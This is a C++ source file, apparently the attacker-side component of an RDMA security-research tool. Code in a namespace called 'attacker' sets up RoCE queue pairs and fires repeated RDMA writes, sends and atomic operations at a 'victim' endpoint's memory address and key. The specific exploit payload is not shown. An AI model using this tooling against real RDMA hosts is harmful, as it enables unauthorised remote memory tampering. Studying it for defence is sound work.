#include "queue_pair.h"

#include <arpa/inet.h>
#include <sys/random.h>

#include <algorithm>
#include <cstring>
#include <stdexcept>

namespace attacker {

namespace {

constexpr uint8_t kPort = 1;
constexpr uint32_t kSends = 64;
constexpr uint32_t kReceivesMax = 4096;
// Two of the longest writes side by side.
constexpr size_t kPieceBytes = 1 << 17;
constexpr int kAccess = IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE;

template <typename T>
T* Made(T* pointer, const char* call) {
  if (pointer == nullptr) throw std::runtime_error(std::string(call) + ": " + std::strerror(errno));
  return pointer;
}

// The first device, and its address of RoCE v2 over IPv4.
ibv_context* OpenDevice() {
  int count = 0;
  ibv_device** list = Made(ibv_get_device_list(&count), "ibv_get_device_list");
  ibv_context* context = count == 0 ? nullptr : ibv_open_device(list[0]);
  ibv_free_device_list(list);
  return Made(context, "ibv_open_device");
}

uint8_t FindGid(ibv_context* context, ibv_gid& gid) {
  static constexpr uint8_t kMapped[12] = {0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff};
  for (uint8_t index = 0; index < 16; index++) {
    if (ibv_query_gid(context, kPort, index, &gid) != 0) break;
    if (std::memcmp(gid.raw, kMapped, sizeof kMapped) == 0) return index;
  }
  throw std::runtime_error("the device has no IPv4 address");
}

template <typename T>
void Put(std::vector<uint8_t>& to, const T& value) {
  const auto* bytes = reinterpret_cast<const uint8_t*>(&value);
  to.insert(to.end(), bytes, bytes + sizeof value);
}

template <typename T>
void Get(const std::vector<uint8_t>& from, size_t at, T& value) {
  std::memcpy(&value, from.data() + at, sizeof value);
}

}  // namespace

std::vector<uint8_t> Encode(const Endpoint& endpoint) {
  std::vector<uint8_t> bytes(endpoint.gid, endpoint.gid + sizeof endpoint.gid);
  Put(bytes, endpoint.address);
  Put(bytes, endpoint.rkey);
  Put(bytes, endpoint.queuePair);
  Put(bytes, endpoint.packet);
  Put(bytes, endpoint.lid);
  Put(bytes, endpoint.mtu);
  bytes.push_back(0);
  return bytes;
}

Endpoint Decode(const std::vector<uint8_t>& bytes) {
  if (bytes.size() != Endpoint::kBytes) throw std::runtime_error("an endpoint has 40 bytes");
  Endpoint endpoint;
  std::memcpy(endpoint.gid, bytes.data(), sizeof endpoint.gid);
  Get(bytes, 16, endpoint.address);
  Get(bytes, 24, endpoint.rkey);
  Get(bytes, 28, endpoint.queuePair);
  Get(bytes, 32, endpoint.packet);
  Get(bytes, 36, endpoint.lid);
  endpoint.mtu = bytes[38];
  return endpoint;
}

QueuePair::QueuePair(size_t regionBytes, uint32_t receives)
    : region_(regionBytes), buffer_(2 * kPieceBytes) {
  Create(receives);
}

void QueuePair::Create(uint32_t receives) {
  context_ = OpenDevice();
  ibv_gid gid{};
  gidIndex_ = FindGid(context_, gid);
  ibv_port_attr port{};
  if (ibv_query_port(context_, kPort, &port) != 0) throw std::runtime_error("ibv_query_port");
  domain_ = Made(ibv_alloc_pd(context_), "ibv_alloc_pd");
  target_ = Made(ibv_reg_mr(domain_, region_.data(), region_.size(), kAccess), "ibv_reg_mr");
  source_ = Made(ibv_reg_mr(domain_, buffer_.data(), buffer_.size(), kAccess), "ibv_reg_mr");
  completions_ = Made(ibv_create_cq(context_, kSends + kReceivesMax, nullptr, nullptr, 0), "ibv_create_cq");
  ibv_qp_init_attr wanted{};
  wanted.send_cq = completions_;
  wanted.recv_cq = completions_;
  wanted.qp_type = IBV_QPT_RC;
  wanted.sq_sig_all = 1;
  wanted.cap = {kSends, kReceivesMax, 1, 1, 0};
  pair_ = Made(ibv_create_qp(domain_, &wanted), "ibv_create_qp");
  ibv_qp_attr attributes{};
  attributes.qp_state = IBV_QPS_INIT;
  attributes.port_num = kPort;
  attributes.qp_access_flags = IBV_ACCESS_REMOTE_WRITE;
  Modify(attributes, IBV_QP_STATE | IBV_QP_PKEY_INDEX | IBV_QP_PORT | IBV_QP_ACCESS_FLAGS, "INIT");
  Receive(receives);
  std::memcpy(endpoint_.gid, gid.raw, sizeof endpoint_.gid);
  endpoint_.address = reinterpret_cast<uint64_t>(region_.data());
  endpoint_.rkey = target_->rkey;
  endpoint_.queuePair = pair_->qp_num;
  uint32_t random = 0;
  if (getrandom(&random, sizeof random, 0) != sizeof random) throw std::runtime_error("getrandom");
  endpoint_.packet = random & 0xffffff;
  endpoint_.lid = port.lid;
  endpoint_.mtu = static_cast<uint8_t>(port.active_mtu);
}

QueuePair::~QueuePair() {
  if (pair_ != nullptr) ibv_destroy_qp(pair_);
  if (completions_ != nullptr) ibv_destroy_cq(completions_);
  if (source_ != nullptr) ibv_dereg_mr(source_);
  if (target_ != nullptr) ibv_dereg_mr(target_);
  if (domain_ != nullptr) ibv_dealloc_pd(domain_);
  if (context_ != nullptr) ibv_close_device(context_);
}

void QueuePair::Modify(ibv_qp_attr& attributes, int mask, const char* state) {
  const int error = ibv_modify_qp(pair_, &attributes, mask);
  if (error == 0) return;
  throw std::runtime_error(std::string("ibv_modify_qp to ") + state + ": " + std::strerror(error));
}

void QueuePair::Connect(const Endpoint& peer, uint8_t notReadyTimer) {
  peer_ = peer;
  ibv_qp_attr attributes{};
  attributes.qp_state = IBV_QPS_RTR;
  attributes.path_mtu = static_cast<ibv_mtu>(std::min(peer.mtu, endpoint_.mtu));
  attributes.dest_qp_num = peer.queuePair;
  attributes.rq_psn = peer.packet;
  attributes.min_rnr_timer = notReadyTimer;
  attributes.ah_attr.is_global = 1;
  std::memcpy(attributes.ah_attr.grh.dgid.raw, peer.gid, sizeof peer.gid);
  attributes.ah_attr.grh.sgid_index = gidIndex_;
  attributes.ah_attr.grh.hop_limit = 64;
  attributes.ah_attr.port_num = kPort;
  Modify(attributes,
         IBV_QP_STATE | IBV_QP_AV | IBV_QP_PATH_MTU | IBV_QP_DEST_QPN | IBV_QP_RQ_PSN | IBV_QP_MAX_DEST_RD_ATOMIC |
             IBV_QP_MIN_RNR_TIMER,
         "RTR");
  attributes = {};
  attributes.qp_state = IBV_QPS_RTS;
  attributes.timeout = 14;
  attributes.retry_cnt = 7;
  attributes.rnr_retry = 7;
  attributes.sq_psn = endpoint_.packet;
  attributes.max_rd_atomic = 1;  // it means to read
  Modify(attributes,
         IBV_QP_STATE | IBV_QP_TIMEOUT | IBV_QP_RETRY_CNT | IBV_QP_RNR_RETRY | IBV_QP_SQ_PSN |
             IBV_QP_MAX_QP_RD_ATOMIC,
         "RTS");
}

void QueuePair::Receive(uint32_t count) {
  for (uint32_t i = 0; i < count; i++) {
    ibv_recv_wr request{};
    ibv_recv_wr* bad = nullptr;
    if (ibv_post_recv(pair_, &request, &bad) != 0) throw std::runtime_error("ibv_post_recv");
  }
}

std::string QueuePair::Post(const Request& what, const std::vector<uint8_t>& bytes,
                            const std::vector<uint8_t>& others, uint32_t count) {
  if (std::max(bytes.size(), others.size()) > kPieceBytes) throw std::runtime_error("too long for one write");
  std::copy(bytes.begin(), bytes.end(), buffer_.begin());
  std::copy(others.begin(), others.end(), buffer_.begin() + kPieceBytes);
  for (uint32_t i = 0; i < count; i++) {
    const bool isOther = i % 2 == 1 && !others.empty();
    ibv_sge piece = {reinterpret_cast<uint64_t>(buffer_.data() + (isOther ? kPieceBytes : 0)),
                     static_cast<uint32_t>(isOther ? others.size() : bytes.size()), source_->lkey};
    ibv_send_wr request{};
    request.wr_id = ++posted_;
    request.sg_list = &piece;
    request.num_sge = piece.length == 0 ? 0 : 1;
    request.opcode = what.opcode;
    request.imm_data = what.opcode == IBV_WR_SEND_WITH_INV ? what.immediate : htonl(what.immediate);
    if (what.opcode == IBV_WR_ATOMIC_FETCH_AND_ADD) {
      request.wr.atomic = {what.address, 1, 0, what.rkey};
    } else {
      request.wr.rdma.remote_addr = what.address;
      request.wr.rdma.rkey = what.rkey;
    }
    ibv_send_wr* bad = nullptr;
    if (ibv_post_send(pair_, &request, &bad) != 0) return "ibv_post_send refused";
    if (posted_ - done_ < kSends / 2 && i + 1 < count) continue;
    const ibv_wc_status status = Await(i + 1 < count ? posted_ - kSends / 4 : posted_);
    if (status != IBV_WC_SUCCESS) return ibv_wc_status_str(status);
  }
  return "success";
}

// What the victim writes is taken off the queue by the way.
ibv_wc_status QueuePair::Await(uint64_t number) {
  while (done_ < number) {
    ibv_wc completion{};
    const int count = ibv_poll_cq(completions_, 1, &completion);
    if (count < 0) throw std::runtime_error("ibv_poll_cq");
    if (count == 0) continue;
    if (completion.status != IBV_WC_SUCCESS) return completion.status;
    if ((completion.opcode & IBV_WC_RECV) == 0) done_ = completion.wr_id;
  }
  return IBV_WC_SUCCESS;
}

}  // namespace attacker
